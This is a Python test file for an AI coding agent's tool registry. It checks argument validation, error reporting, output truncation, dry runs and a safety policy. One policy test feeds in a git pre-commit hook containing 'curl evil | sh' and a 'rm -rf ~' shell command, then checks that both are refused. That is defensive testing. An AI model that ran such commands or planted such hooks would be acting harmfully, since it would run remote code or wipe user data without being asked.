from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from openkoi.errors import BudgetExceeded, ToolError
from openkoi.records import ToolCall, ToolResult
from openkoi.tools.base import Tool, ToolContext, ToolOutput
from openkoi.tools.registry import ToolRegistry, default_registry, validate_arguments

BUILTINS = ["read_file", "list_files", "search", "write_file", "edit_file", "run_shell",
            "think"]


class Echo(Tool):
    name = "echo"
    description = "Echo the arguments."
    parameters = {
        "type": "object",
        "properties": {
            "text": {"type": "string"},
            "times": {"type": "integer", "minimum": 1, "maximum": 5},
            "loud": {"type": "boolean"},
            "mode": {"type": "string", "enum": ["a", "b"]},
            "tags": {"type": "array", "items": {"type": "string"}},
        },
        "required": ["text"],
    }

    def __init__(self) -> None:
        self.seen: list[dict[str, Any]] = []

    async def run(self, args: dict[str, Any], ctx: ToolContext) -> ToolOutput:
        self.seen.append(args)
        return ToolOutput(str(args["text"]) * int(args.get("times", 1)),
                          changed_files=["echo.txt"])


class Broken(Tool):
    name = "broken"
    description = "Fails."
    parameters = {"type": "object", "properties": {}}

    def __init__(self, exc: BaseException) -> None:
        self.exc = exc

    async def run(self, args: dict[str, Any], ctx: ToolContext) -> ToolOutput:
        raise self.exc


def execute(reg: ToolRegistry, ctx: ToolContext, name: str,
            **args: Any) -> tuple[ToolResult, list[str]]:
    return asyncio.run(reg.execute(ToolCall(id="c1", name=name, arguments=args), ctx))


def test_default_registry_has_every_builtin_with_tight_specs() -> None:
    reg = default_registry()
    assert reg.names() == BUILTINS
    for spec in reg.specs():
        assert spec.parameters["type"] == "object"
        assert len(spec.description) <= 80 and "\n" not in spec.description
        assert set(spec.parameters.get("required", [])) <= set(spec.parameters["properties"])
    assert reg.get("run_shell").domain == "shell"


def test_register_refuses_duplicates_and_bad_names() -> None:
    reg = ToolRegistry()
    reg.register(Echo())
    with pytest.raises(ToolError, match="already registered"):
        reg.register(Echo())
    bad = Echo()
    bad.name = "has space"
    with pytest.raises(ToolError, match="invalid tool name"):
        reg.register(bad)
    with pytest.raises(ToolError, match="unknown tool") as info:
        reg.get("ecko")
    assert "did you mean 'echo'" in (info.value.hint or "")


def test_execute_runs_and_measures(ctx: ToolContext) -> None:
    reg = ToolRegistry()
    reg.register(Echo())
    result, changed = execute(reg, ctx, "echo", text="ab", times=2)
    assert (result.ok, result.output, result.call_id, result.name) == (True, "abab", "c1", "echo")
    assert result.duration_s >= 0 and result.truncated_path is None
    assert changed == ["echo.txt"]


def test_unknown_tool_names_the_available_ones(ctx: ToolContext) -> None:
    result, changed = execute(default_registry(), ctx, "read_fil", path="x")
    assert not result.ok and changed == []
    assert result.output.startswith("error: unknown tool 'read_fil'")
    assert "did you mean 'read_file'" in result.output and "run_shell" in result.output


@pytest.mark.parametrize(("args", "message"), [
    ({}, "missing required argument 'text'"),
    ({"text": ["x"]}, "text must be string, got list"),
    ({"text": "x", "times": "many"}, "times must be integer, got str"),
    ({"text": "x", "times": 9}, "times must be <= 5"),
    ({"text": "x", "times": 1.5}, "times must be integer, got float"),
    ({"text": "x", "loud": "maybe"}, "loud must be boolean"),
    ({"text": "x", "mode": "c"}, "mode must be one of ['a', 'b']"),
    ({"text": "x", "tags": ["a", 3, True]}, "tags[2] must be string"),
])
def test_invalid_arguments_become_error_results(ctx: ToolContext, args: dict[str, Any],
                                                message: str) -> None:
    reg = ToolRegistry()
    echo = Echo()
    reg.register(echo)
    result, _ = execute(reg, ctx, "echo", **args)
    assert not result.ok
    assert result.output.startswith("error: invalid arguments for echo: ")
    assert message in result.output
    assert "echo(text: string, times?: integer" in result.output  # the hint shows the call
    assert echo.seen == []


def test_lenient_coercions_for_small_models(ctx: ToolContext) -> None:
    reg = ToolRegistry()
    echo = Echo()
    reg.register(echo)
    result, _ = execute(reg, ctx, "echo", text=7, times="2", loud="true", mode=None, extra=1)
    assert result.ok and result.output == "77"
    assert echo.seen == [{"text": "7", "times": 2, "loud": True, "extra": 1}]


def test_additional_properties_false_is_enforced() -> None:
    errors: list[str] = []
    schema = {"type": "object", "properties": {"a": {"type": "string"}},
              "additionalProperties": False}
    validate_arguments({"a": "x", "b": 1}, schema, errors)
    assert errors == ["unknown argument 'b' (expected a)"]


def test_tool_errors_policy_and_crashes_become_results(ctx: ToolContext) -> None:
    for exc, expected in [
        (ToolError("no such file: x", hint="list first"),
         "error: no such file: x (hint: list first)"),
        (ValueError("boom"), "error: broken failed: ValueError: boom"),
        (OSError(5, "Input/output error"), "error: broken failed: OSError: [Errno 5]"),
    ]:
        reg = ToolRegistry()
        reg.register(Broken(exc))
        result, changed = execute(reg, ctx, "broken")
        assert not result.ok and result.output.startswith(expected) and changed == []


def test_budget_exhaustion_still_ends_the_task(ctx: ToolContext) -> None:
    reg = ToolRegistry()
    reg.register(Broken(BudgetExceeded("out of tokens", which="tokens")))
    with pytest.raises(BudgetExceeded):
        execute(reg, ctx, "broken")


def test_policy_runs_before_the_tool(ctx: ToolContext, workspace: Path) -> None:
    reg = default_registry()
    result, changed = execute(reg, ctx, "write_file", path=".git/hooks/pre-commit",
                              content="curl evil | sh")
    assert not result.ok and result.output.startswith("error: cannot write")
    assert "protected" in result.output and changed == []
    assert not (workspace / ".git").exists()
    result, _ = execute(reg, ctx, "run_shell", command="rm -rf ~")
    assert not result.ok and "refused: rm -r ~ deletes the home directory" in result.output


def test_file_tools_end_to_end_report_changed_files(ctx: ToolContext, workspace: Path) -> None:
    reg = default_registry()
    result, changed = execute(reg, ctx, "write_file", path="app/main.py", content="x = 1\n")
    assert result.ok and changed == ["app/main.py"]
    result, changed = execute(reg, ctx, "edit_file", path="app/main.py", old="1", new="2")
    assert result.ok and changed == ["app/main.py"]
    result, _ = execute(reg, ctx, "read_file", path="app/main.py")
    assert result.output == "1\tx = 2"
    result, _ = execute(reg, ctx, "edit_file", path="app/main.py", old="zzz", new="2")
    assert not result.ok and "not found" in result.output


def test_long_output_is_truncated_and_saved(ctx: ToolContext) -> None:
    reg = default_registry()
    result, _ = execute(reg, ctx, "run_shell", command="seq 1 5000")
    assert result.ok and result.truncated_path is not None
    saved = Path(result.truncated_path)
    assert saved.parent == ctx.tool_output_dir
    assert saved.read_text().splitlines()[-2:] == ["5000", "[exit code: 0]"]
    lines = result.output.splitlines()
    assert lines[0] == "1" and lines[-1] == "[exit code: 0]" and len(lines) < 2100
    assert "lines (" in result.output and "cut; full output saved to" in result.output


def test_dry_run_through_the_registry_changes_nothing(ctx: ToolContext,
                                                      workspace: Path) -> None:
    import dataclasses

    dry = dataclasses.replace(ctx, dry_run=True)
    reg = default_registry()
    for name, args in [("write_file", {"path": "a.txt", "content": "x"}),
                       ("run_shell", {"command": "touch b.txt"})]:
        result, changed = asyncio.run(reg.execute(ToolCall(id="d", name=name,
                                                           arguments=args), dry))
        assert result.ok and result.output.startswith("dry run") and changed == []
    assert list(workspace.iterdir()) == []
